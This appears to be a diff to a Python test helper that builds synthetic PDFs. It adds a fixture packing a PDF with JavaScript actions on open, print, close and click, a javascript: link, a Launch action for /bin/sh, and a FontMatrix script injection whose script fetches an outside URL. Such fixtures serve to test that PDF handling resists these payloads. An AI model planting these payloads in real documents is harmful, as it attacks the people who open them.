@@ -18,8 +18,11 @@ def policy_pdf():
     return gzip.decompress(POLICY.read_bytes())
 
 
-def pdf(*pages, outline=(), images=False):
-    """A PDF with these texts, one a page; `outline`: (title, page index). With `images` only pictures of nothing."""
+def pdf(*pages, outline=(), images=False, catalog="", on_page="", font=""):
+    """A PDF with these texts, one a page; `outline`: (title, page index). With `images` only pictures of nothing.
+
+    `catalog`, `on_page` and `font` are further entries of these objects.
+    """
     objects = {}
     kids = []
     for number, text in enumerate(pages):
@@ -32,13 +35,13 @@ def pdf(*pages, outline=(), images=False):
         resources = "/XObject << /I 5 0 R >>" if images else "/Font << /F 3 0 R >>"
         objects[page] = (
             f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {content} 0 R"
-            f" /Resources << {resources} >> >>"
+            f" /Resources << {resources} >>{on_page} >>"
         ).encode()
         objects[content] = _stream(stream)
     outlines = " /Outlines 4 0 R" if outline else ""
-    objects[1] = f"<< /Type /Catalog /Pages 2 0 R{outlines} >>".encode()
+    objects[1] = f"<< /Type /Catalog /Pages 2 0 R{outlines}{catalog} >>".encode()
     objects[2] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(pages)} >>".encode()
-    objects[3] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
+    objects[3] = f"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica{font} >>".encode()
     objects[5] = _stream(zlib.compress(bytes(64)), "/Type /XObject /Subtype /Image /Width 8 /Height 8"
                          " /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode")  # fmt: skip
     first = 1000
@@ -50,6 +53,23 @@ def pdf(*pages, outline=(), images=False):
     if outline:
         objects[4] = f"<< /Type /Outlines /First {first} 0 R /Last {first + len(outline) - 1} 0 R >>".encode()
     return _assembled(objects)
+
+
+def scripted_pdf(text):
+    """Wants to run a script when it is opened, printed, closed, clicked on, and when its font is drawn."""
+    script = "app.alert(1); top.document.title = 'taken'; fetch('https://example.org/taken')"
+    action = f"<< /S /JavaScript /JS ({_escaped(script)}) >>"
+    place = "/Rect [0 0 600 780]"
+    return pdf(
+        text,
+        catalog=f" /OpenAction {action} /AA << /WC {action} /WP {action} >> /Names << /JavaScript << /Names"
+        f" [(a) {action}] >> >>",
+        on_page=f" /AA << /O {action} /C {action} >> /Annots ["
+        f" << /Type /Annot /Subtype /Link {place} /A << /S /URI /URI (javascript:{_escaped(script)}) >> >>"
+        f" << /Type /Annot /Subtype /Link {place} /A << /S /Launch /F (/bin/sh) >> >>"
+        f" << /Type /Annot /Subtype /Widget /FT /Btn /T (go) {place} /A {action} /AA << /E {action} >> >> ]",
+        font=f" /FontMatrix [0.001 0 0 0.001 0 (0\\); {_escaped(script)} //)]",
+    )
 
 
 def encrypted_pdf():
